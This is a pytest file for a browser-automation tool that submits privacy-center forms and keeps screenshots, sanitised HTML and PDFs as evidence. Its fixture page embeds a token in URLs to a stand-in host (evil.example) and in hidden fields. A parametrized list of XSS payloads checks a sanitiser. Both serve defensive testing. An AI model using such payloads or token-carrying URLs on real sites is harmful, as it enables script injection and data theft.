"""What is kept of each attempt: which kinds, of which screens, and that a failure is a gap."""

from __future__ import annotations

import json
import re
import threading
import zlib
from collections.abc import Callable, Iterator, Sequence
from dataclasses import replace
from datetime import UTC, datetime
from io import BytesIO
from pathlib import Path
from typing import Any

import pytest
from PIL import Image
from playwright.sync_api import Browser, BrowserContext, Locator, Page, Playwright

from automation import logs
from automation.account import Account, Statement
from automation.browser import camera
from automation.browser.launch import Plan, open_window
from automation.browser.printed import without_queries
from automation.browser.replay import Replay
from automation.browser.window import PlaywrightWindow
from automation.decisions import Memory
from automation.errors import WindowError
from automation.evidence import closing, markup, witness
from automation.evidence.bundle import Bundle
from automation.evidence.capture import Album
from automation.evidence.seal import Seal
from automation.evidence.witness import ANSWER, FORM, Witness
from automation.ports import Ending, Taken
from automation.recording import PageState, Recording, load
from automation.report import Order
from automation.turns import always, finish, never, turns
from automation.walk import Walk
from flows import FLOWS
from flows.meta.instagram import META_AI_INSTAGRAM
from support import EMAIL, STATEMENT, Somebody

DEFAULT = "instagram-privacy-center-en"
TOKEN = "tokk9f8e7d6c5b4a3"
SECRET = "swordfishzz88"


class Attended:
    """Walks of the default recording without a display, with a person who acts in the page."""

    def __init__(self, context: BrowserContext, folder: Path) -> None:
        self.recording = load(DEFAULT)
        self.flow = FLOWS[self.recording.flow]
        self.window = PlaywrightWindow(context, self.flow, Replay(self.recording))
        self.window.start(context.new_page())
        self.person = Somebody(window=self.window)
        self.bundle = Bundle(folder, "bundle", dry_run=True)
        self.witness = Witness(self.window, self.flow, self.bundle, self.person)
        self.folder = folder / "bundle.open"

    def walk(self, **does: Callable[[PlaywrightWindow], None]) -> Ending:
        """Walk to the end, and close what was kept."""
        self.person.does = dict(does)
        account = Account("anna", EMAIL, region=self.recording.region)
        statement = Statement("t", STATEMENT)
        order = Order(account, statement, self.flow, self.flow.route(), self.folder, self.folder)
        memory = Memory(attended=True, rehearsal=True, answer_seconds=3)
        walk = Walk(self.window, self.flow, order.values, self.witness, self.person, memory)
        walk.meanwhile = self.witness.between
        ending = finish(turns(walk, order.doors[0].address, never, always))
        self.witness.finish()
        self.witness.close()
        return ending

    def part(self, part: str) -> list[dict[str, Any]]:
        """The notes of this part."""
        return [n for n in self.witness.seen_screens if n.get("part") == part]

    def read(self, note: dict[str, Any], kind: str) -> str:
        """What was kept, as text."""
        return (self.folder / note[kind]).read_text("utf-8")


@pytest.fixture
def attended(browser: Browser, tmp_path: Path) -> Iterator[Attended]:
    """A walk with a person."""
    context = browser.new_context(service_workers="block")
    yield Attended(context, tmp_path)
    context.close()


def page_of(window: PlaywrightWindow) -> Page:
    """The page that the window shows."""
    return window._tabs.page()


def later(act: Callable[[Page], None], *more: Callable[[Page], None]) -> Any:
    """Act once the walk has seen the form for a while, and again each time after a while."""

    def start(window: PlaywrightWindow) -> None:
        page = page_of(window)

        def run(_: object = None) -> None:
            try:
                for each in (act, *more):
                    page.wait_for_timeout(900)
                    each(page)
            except Exception:
                page.close()  # or the walk would never end
                raise

        page.once("console", run)
        page.evaluate("setTimeout(() => console.log('now'), 0)")

    return start


def box(page: Page) -> Locator:
    """The statement's."""
    return page.get_by_role("textbox", name=re.compile("impacts you"))


def add(text: str) -> Callable[[Page], None]:
    """Type this behind the statement."""

    def type_it(page: Page) -> None:
        box(page).press("Control+End")
        box(page).press_sequentially(text)

    return type_it


def send(page: Page) -> None:
    """Press Submit."""
    page.get_by_role("button", name="Submit").click()


def test_a_form_that_was_changed_and_sent(attended: Attended) -> None:
    """The form is kept as filled, as changed, and as it was left; the answer with a PDF.

    There is one picture of the form as it was left, and it holds what was sent.
    """
    ending = attended.walk(review=later(add(" First."), add(" Second."), send))

    assert ending.outcome.word == "sent"
    assert attended.bundle.gaps == []
    (filled,), (left,), (answer,) = (attended.part(p) for p in ("filled", "left", "answer"))
    assert [n["screen"] for n in attended.part("changed")] == ["form-changed-1"]
    assert left["screen"] == "form-changed-2"
    assert "Second." in attended.read(left, "html")
    assert "Second." in attended.read(left, "tree")
    assert "First." not in attended.read(filled, "html")
    assert STATEMENT in attended.read(filled, "html")
    assert (set(ANSWER) & {*answer}, set(FORM) & {*filled}) == ({*ANSWER}, {*FORM})
    assert "pdf" not in filled
    assert (attended.folder / answer["pdf"]).read_bytes().startswith(b"%PDF-")
    assert set(answer["masked"]) == {"picture", "text", "html", "tree"}
    on_the_way = [n for n in attended.witness.seen_screens if "part" not in n]
    assert {frozenset({"picture", "text", "html", "tree", "pdf"} & {*n}) for n in on_the_way} == {
        frozenset({"picture", "text"})
    }


@pytest.mark.deep
def test_a_form_that_was_left_as_it_was_filled(attended: Attended) -> None:
    """What nobody changed is filled and left alike: the same files, named twice."""
    attended.walk(review=later(lambda page: page.close()))

    (filled,), (left,) = attended.part("filled"), attended.part("left")
    assert {**filled, "screen": "form-left", "part": "left"} == left
    assert attended.bundle.gaps == []


@pytest.mark.deep
def test_a_change_that_was_seen_but_not_pictured(attended: Attended) -> None:
    """Who types and is gone before a picture: none is called the form as it was left, but a gap."""

    def type_and_go(page: Page) -> None:
        attended.witness.changed = lambda _: None  # type: ignore[method-assign]
        box(page).press_sequentially(" Unpictured.")
        page.wait_for_timeout(600)
        page.close()

    attended.walk(review=later(type_and_go))

    assert attended.part("left") == []
    assert [gap for gap in attended.bundle.gaps if "as it was left" in gap]


@pytest.mark.deep
def test_a_page_that_changes_after_it_was_pictured(
    attended: Attended, monkeypatch: pytest.MonkeyPatch
) -> None:
    """What was taken at a first glance is only kept if the second one sees the same.

    A cookie dialog that somebody declines just then is in no picture, the page behind it is.
    """
    window, taken = attended.window, []
    capture = window.capture

    def goes(kinds: Sequence[str]) -> Taken:
        taken.append(capture(kinds))
        if len(taken) == 1:
            page_of(window).get_by_role("button", name="Decline").click()
            page_of(window).get_by_role("dialog").wait_for(state="hidden")
        return taken[-1]

    monkeypatch.setattr(window, "capture", goes)
    attended.walk(review=later(Page.close))

    assert "cookies" in taken[0].kept["text"]
    first = next(note for note in attended.witness.seen_screens if "picture" in note)
    assert first["screen"] == "privacy-center"
    assert "cookies" not in attended.read(first, "text")
    assert taken[0].kept["picture"] not in [f.read_bytes() for f in attended.folder.glob("*.png")]


def test_a_picture_costs_no_second_look(
    attended: Attended, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A page that holds still is pictured between the two glances of a look: no more are taken."""
    window, asked = attended.window, list[str]()

    def noted(word: str, call: Callable[..., Any]) -> Callable[..., Any]:
        def noting(*given: Any) -> Any:
            asked.append(word)
            return call(*given)

        return noting

    for word in ("capture", "glance", "pause"):
        monkeypatch.setattr(window, word, noted(word, getattr(window, word)))
    attended.walk(review=later(Page.close))

    told = " ".join(asked)
    assert told.count("glance capture glance") == told.count("capture") >= 9
    assert "capture pause" not in told


@pytest.mark.deep
def test_a_form_that_is_emptied_when_it_was_sent(attended: Attended) -> None:
    """What the page makes of the form after a submission is not how it was left."""

    def empty(page: Page) -> None:
        page.evaluate(
            """() => {
            const box = [...document.querySelectorAll("textarea")].find((e) => e.checkVisibility());
            document.querySelector("form").addEventListener("submit", (e) => {
              e.preventDefault(); e.stopImmediatePropagation();
              fetch("/ajax/help/contact/submit/page", {method: "POST", body: "x"});
              box.value = "";
            }, true); }"""
        )
        send(page)

    attended.walk(review=later(add(" Sent so."), empty, lambda page: page.close()))

    (left,) = attended.part("left")
    assert "Sent so." in attended.read(left, "html")
    assert attended.window.left()["statement"].endswith("Sent so.")


def test_a_change_right_before_it_was_sent(attended: Attended) -> None:
    """What is typed and sent between two looks is kept as it was left, though nothing shows it."""

    def at_once(page: Page) -> None:
        add(" At once.")(page)
        send(page)

    ending = attended.walk(review=later(at_once))

    assert ending.outcome.word == "sent"
    assert attended.window.left()["statement"].endswith("At once.")
    assert attended.part("left") == []
    assert [gap for gap in attended.bundle.gaps if "as it was left" in gap]


@pytest.mark.deep
def test_a_box_that_became_a_password_is_not_read(attended: Attended) -> None:
    """What is typed where the page asks for a password now is kept nowhere."""

    def log_in(page: Page) -> None:
        address = page.get_by_label("Email address").element_handle()
        assert address
        address.evaluate("el => { el.type = 'password' }")
        address.fill("")
        address.type("hunter2-hunter2")
        send(page)

    attended.walk(review=later(log_in, lambda page: page.close()))

    assert "hunter2" not in repr(attended.window.left()) + repr(attended.window.values())


@pytest.mark.deep
def test_the_newest_change_takes_the_place_of_the_last(
    attended: Attended, monkeypatch: pytest.MonkeyPatch
) -> None:
    """However often the form is changed, the last change is pictured, and few files are kept."""
    monkeypatch.setattr(witness, "MOST_CHANGES", 1)

    attended.walk(
        review=later(add(" One."), add(" Two."), add(" Three."), lambda page: page.close())
    )

    (left,) = attended.part("left")
    assert attended.part("changed") == []
    assert "Three." in attended.read(left, "html")
    assert len(list(attended.folder.glob("*changed*.html"))) == 2  # and its masked twin
    assert attended.bundle.gaps == []


# The rest of this file: one page that holds all that may not be kept.

AT = "https://help.instagram.com/contact/767264225370182"
PAGE = f"""<!doctype html><html lang="en"><title>The form</title>
<style>.x {{ background: url(https://evil.example/{TOKEN}) }}</style>
<script>window.token = "{TOKEN}"; localStorage.setItem("t", "{TOKEN}");
document.cookie = "c={TOKEN}";</script>
<body onload="void '{TOKEN}'" data-token="{TOKEN}">
<!-- {TOKEN} --><noscript>{TOKEN}</noscript><template>{TOKEN}</template>
<form action="/send?t={TOKEN}" method=post id="{TOKEN}" class="{TOKEN}">
  <input type=hidden name=fb_dtsg value="{TOKEN}"><input type=hidden name=lsd value="{TOKEN}">
  <input type=hidden name=jazoest value="{TOKEN}"><textarea hidden>{TOKEN}</textarea>
  <div style="display:none">{TOKEN}</div>
  <label>Email <input name=email value="" onchange="x('{TOKEN}')"></label>
  <label>Impacts <textarea name=s></textarea></label>
  <label>Country <select><option value="{TOKEN}">A<option value="{TOKEN}" id=b>Bee</select></label>
  <label><input type=checkbox id=check value="{TOKEN}"> I agree</label>
  <a href="https://help.instagram.com/x/(y)?fbclid={TOKEN}#{TOKEN}">More</a>
  <a href="javascript:void '{TOKEN}'">Run</a> <a href="/rel?x={TOKEN}">Relative</a>
  <img src="https://evil.example/a.png?{TOKEN}" alt="A picture" onerror="void '{TOKEN}'">
  <div><template shadowrootmode=open><p>In the shade <input id=deep></p><slot></slot></template>
  <b>Slotted</b></div>
  <button formaction="/?{TOKEN}">Submit</button>
</form><iframe srcdoc="<p>framed {SECRET}</p>"></iframe></body></html>"""
KINDS = {"picture": "png", "text": "txt", "html": "html", "tree": "aria.yaml", "pdf": "pdf"}


def recorded(html: str) -> Recording:
    """A recording of this one page."""
    headers = {"Content-Type": "text/html; charset=utf-8", "Set-Cookie": f"h={TOKEN}"}
    page = PageState("form", AT, html, 200, headers, ())
    return replace(load("log-in-wall"), pages=(page,), leads=(), submission=None)


@pytest.fixture(scope="module")
def window(playwright: Playwright) -> Iterator[PlaywrightWindow]:
    """A window on that page, with something typed and chosen in it."""
    plan = Plan(META_AI_INSTAGRAM, headed=False, recording=recorded(PAGE))
    with open_window(playwright, plan) as opened:
        opened.window.goto(AT)
        page = page_of(opened.window)
        page.wait_for_load_state()
        page.fill("[name=email]", EMAIL)
        page.fill("[name=s]", "One\nTwo <b>& three")
        page.fill("#deep", "typed in the shade")
        page.select_option("select", label="Bee")
        page.check("#check")
        yield opened.window


def kept(window: PlaywrightWindow, folder: Path, taken: Taken | None = None) -> dict[str, Any]:
    """All kinds of the page, kept; its note, and the gaps."""
    bundle = Bundle(folder, "bundle", dry_run=True)
    album = Album(bundle, frozenset())
    note: dict[str, Any] = {"screen": "form", "address": AT}
    album.add(note, "01-form", taken or window.capture(ANSWER))
    album.mask()
    album.close()
    return {**note, "gaps": bundle.gaps}


def test_no_token_is_in_the_bundle(window: PlaywrightWindow, tmp_path: Path) -> None:
    """Hidden fields, cookies, storage, scripts, handlers and queries are in no byte that is kept.

    Streams of the PDF and chunks of the pictures are unpacked first.
    """
    note = kept(window, tmp_path)

    assert note["gaps"] == []
    files = sorted((tmp_path / "bundle.open").iterdir())
    assert len(files) == 9
    for file in files:
        held = unpacked(file.read_bytes())
        held += b"".join(chunk for kind, chunk in chunks(held) if kind != b"IDAT")
        for mark in (TOKEN, SECRET, "fb_dtsg", "jazoest", "evil.example", "javascript:"):
            assert mark.encode() not in held, (file.name, mark)
            assert mark.encode("utf-16-be") not in held, (file.name, mark)


def pixels(png: bytes) -> tuple[tuple[int, int], bytes]:
    """What a picture shows, however it is packed."""
    image = Image.open(BytesIO(png)).convert("RGB")
    return image.size, image.tobytes()


def unpacked(held: bytes) -> bytes:
    """The same, and behind it what the streams of a PDF hold."""
    for stream in re.findall(rb"stream\r?\n(.*?)\r?\nendstream", held, re.DOTALL):
        held += zlib.decompressobj().decompress(stream) if stream[:1] == b"x" else stream
    return held


def chunks(png: bytes) -> Iterator[tuple[bytes, bytes]]:
    """The kinds and contents of a PNG's chunks; nothing for another file."""
    at = 8 if png.startswith(b"\x89PNG") else len(png)
    while at < len(png):
        size = int.from_bytes(png[at : at + 4], "big")
        yield png[at + 4 : at + 8], png[at + 8 : at + 8 + size]
        at += size + 12


def test_frames_are_in_no_printed_page(window: PlaywrightWindow) -> None:
    """The PDF paints nothing of what a frame shows; as the browser prints the page, it does."""
    page = page_of(window)
    page.frame_locator("iframe").locator("body").evaluate(
        "el => { el.style.cssText = 'background: #12fe34; print-color-adjust: exact' }"
    )
    painted = re.compile(rb"\.0706 \.9961 \.2039 rg")

    printed = window.capture(["pdf"]).kept["pdf"]

    assert painted.search(unpacked(page.pdf(print_background=True)))
    assert not painted.search(unpacked(printed))


def test_the_pictures_say_nothing_beside_what_they_show(
    window: PlaywrightWindow, tmp_path: Path
) -> None:
    """A picture and its twin hold no text, no time and no profile."""
    note = kept(window, tmp_path)

    for name in (note["picture"], note["masked"]["picture"]):
        found = {kind for kind, _ in chunks((tmp_path / "bundle.open" / name).read_bytes())}
        assert found <= {b"IHDR", b"IDAT", b"IEND", b"sBIT", b"sRGB", b"pHYs"}


def test_the_markup_holds_what_was_shown(
    window: PlaywrightWindow, tmp_path: Path, browser: Browser
) -> None:
    """In the browser the file shows text and values, those in a shadow root too, and loads nothing.

    Even were a script in it, its own policy would stop it.
    """
    note = kept(window, tmp_path)
    file = tmp_path / "bundle.open" / note["html"]
    file.write_text(file.read_text().replace("</body>", "<script>document.title='ran'</script>"))
    page = browser.new_page()
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))

    page.goto(file.as_uri())

    assert asked == [file.as_uri()]
    assert page.title() == "The form"
    assert page.locator("input[type=text]").first.input_value() == EMAIL
    assert page.locator("textarea").input_value() == "One\nTwo <b>& three"
    assert page.locator("select").evaluate("el => el.selectedOptions[0].text") == "Bee"
    assert page.locator("[type=checkbox]").is_checked()
    assert page.get_by_text("In the shade").locator("input").input_value() == "typed in the shade"
    assert page.get_by_text("Slotted").is_visible()
    assert page.get_by_text("[frame]").is_visible()
    found = page.locator("a").evaluate_all("all => all.map((el) => el.getAttribute('href'))")
    assert found == [
        "https://help.instagram.com/x/(y)",
        None,
        "https://help.instagram.com/rel",
    ]
    page.close()


@pytest.mark.parametrize(
    "hostile",
    [
        "<script>alert(1)</script>",
        "<svg><script>alert(1)</script></svg>",
        '<a href="javascript:alert(1)">x</a>',
        '<p onclick="alert(1)" style="background:url(//alert)">x</p>',
        '<form action="//alert"><input type="hidden" value="alert"></form>',
        '<meta http-equiv="refresh" content="0;alert"><base href="//alert">',
        '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
        '<iframe srcdoc="alert"></iframe><object data="alert"></object>',
    ],
)
def test_markup_that_runs_is_cleaned(hostile: str) -> None:
    """Whatever comes from the page, nothing of it would run, load, send or hide."""
    cleaned = markup.cleaned(hostile)

    assert "alert(" not in cleaned or "<" not in cleaned.replace("<table></table>", "")
    for word in ("<script", "onclick", "onerror", "<form", "style=", "<meta", "<base", "hidden"):
        assert word not in cleaned
    assert "//alert" not in cleaned


def test_links_in_a_pdf_stay_as_long() -> None:
    """Queries go, brackets stay escaped, and no offset of the file changes."""
    given = rb"<</S /URI /URI (https://a.example/\(x\)?t=secret)>> /URI (mailto:a@b.example)"

    plain = without_queries(given)

    assert len(plain) == len(given)
    assert rb"/URI (https://a.example/\(x\))" in plain
    assert b"secret" not in plain


class Broken:
    """A window of which one kind cannot be taken."""

    def __init__(self, window: PlaywrightWindow, kind: str) -> None:
        self.kind, self.window = kind, window

    def capture(self) -> Taken:
        """As if the browser had failed at it."""
        taken = self.window.capture(ANSWER)
        rest = {kind: what for kind, what in taken.kept.items() if kind != self.kind}
        return replace(taken, kept=rest, failed={self.kind: "The browser failed."})


@pytest.mark.parametrize("kind", KINDS)
def test_a_kind_that_fails_is_a_gap(kind: str, window: PlaywrightWindow, tmp_path: Path) -> None:
    """Each kind fails alone: the others are kept, and the gap says which and why."""
    note = kept(window, tmp_path, Broken(window, kind).capture())

    assert note["gaps"] == [f"{kind} of 'form': The browser failed."]
    assert {*KINDS} - {*note} == {kind}
    assert kind not in note["masked"]
    if kind == "picture":
        assert note["not_pictured"] == "The browser failed."


@pytest.mark.parametrize(("kind", "ending"), [("html", ".html"), ("masked picture", ".masked.png")])
def test_a_file_that_cannot_be_written_is_a_gap(
    kind: str, ending: str, window: PlaywrightWindow, tmp_path: Path
) -> None:
    """A disk that refuses one file costs this one file, and a line in the log of its attempt.

    Its note does not name it.
    """
    folder = tmp_path / "bundle.open"
    (folder / f"01-form{ending}").mkdir(parents=True)
    logged: list[dict[str, object]] = []

    with logs.copied(lambda line: logged.append(json.loads(line))):
        note = kept(window, tmp_path)

    assert len(note["gaps"]) == 1
    assert note["gaps"][0].startswith(f"{kind} of 'form': The file ")
    assert [e["kind"] for e in logged if e["event"] == "capture failed"] == [kind]
    assert kind not in note
    assert "picture" not in note["masked"] or kind == "html"


def test_a_script_that_fails_is_a_gap(window: PlaywrightWindow, tmp_path: Path) -> None:
    """A page too odd to be measured or written down is still pictured."""
    window.evaluate("(objector.keep = [objector.after, objector.serialise], 0)")
    window.evaluate("(objector.after = objector.serialise = () => { throw new Error() }, 0)")
    try:
        note = kept(window, tmp_path)
    finally:
        window.evaluate("([objector.after, objector.serialise] = objector.keep, 0)")

    assert {*KINDS} - {*note} == {"html"}
    assert sorted(gap.partition(" of ")[0] for gap in note["gaps"]) == ["html", "masked"]
    assert "masked" not in note


@pytest.mark.deep
def test_a_camera_that_hangs_is_given_up(
    playwright: Playwright, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A picture that never comes fails after its time, and the next one is taken.

    Without the watch it would be waited for for ever.
    """
    monkeypatch.setattr(camera, "PICTURE_SECONDS", 0.5)
    plan = Plan(META_AI_INSTAGRAM, headed=False, recording=recorded("<p>Still</p>"))
    with open_window(playwright, plan) as opened:
        opened.window.goto(AT)
        page = page_of(opened.window)
        page.wait_for_load_state()
        world = opened.window._tabs.current()
        assert world
        opened.window.capture(["picture"])
        session = world.camera._session
        assert session
        real = session.send
        hung = {"expression": "new Promise(() => 0)", "awaitPromise": True}
        monkeypatch.setattr(session, "send", lambda *_: real("Runtime.evaluate", hung))

        failed = opened.window.capture(["picture"])
        again = opened.window.capture(["picture"])

        assert "picture" in failed.failed
        assert again.kept["picture"].startswith(b"\x89PNG")
        assert page.locator("p").is_visible()


def test_the_whole_of_a_long_page(playwright: Playwright) -> None:
    """A page longer and wider than the window is pictured to its end, as Playwright would."""
    html = "<body style='margin:0'><div style='width:1500px;height:3000px'></div><p id=e>End</p>"
    plan = Plan(META_AI_INSTAGRAM, headed=False, recording=recorded(html))
    with open_window(playwright, plan) as opened:
        opened.window.goto(AT)
        page = page_of(opened.window)
        page.wait_for_load_state()

        taken = opened.window.capture(["picture"])

        assert pixels(taken.kept["picture"]) == pixels(page.screenshot(full_page=True))


@pytest.mark.deep
def test_nothing_is_asked_of_the_browser_from_another_thread(attended: Attended) -> None:
    """The window is only used by the thread that walks; files are written by another."""
    used: set[str] = set()
    wrote: set[str] = set()
    capture, keep = attended.window.capture, attended.bundle.keep

    def captured(kinds: Any) -> Taken:
        used.add(threading.current_thread().name)
        return capture(kinds)

    def written(name: str, content: bytes | str) -> str:
        wrote.add(threading.current_thread().name.split("_")[0])
        return keep(name, content)

    attended.window.capture = captured  # type: ignore[method-assign]
    attended.bundle.keep = written  # type: ignore[method-assign]
    attended.walk(review=later(lambda page: page.close()))

    assert used == {threading.main_thread().name}
    assert wrote == {"evidence", "masks"}


@pytest.mark.deep
def test_a_bundle_says_whether_all_was_kept(
    attended: Attended, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The provenance says PARTIAL where there is a gap, and names it."""

    def broken(_: Any) -> Taken:
        raise WindowError("The page crashed.")

    monkeypatch.setattr(attended.window, "capture", broken)
    attended.walk(review=later(lambda page: page.close()))

    folder = closing.finish(attended.bundle, {"outcome": "left"}, datetime.now(UTC), Seal())
    told = json.loads((folder / "data" / "provenance.json").read_text())

    assert (told["complete"], told["kept"]) == (False, "PARTIAL")
    assert "picture of 'form-filled': The page crashed." in told["gaps"]
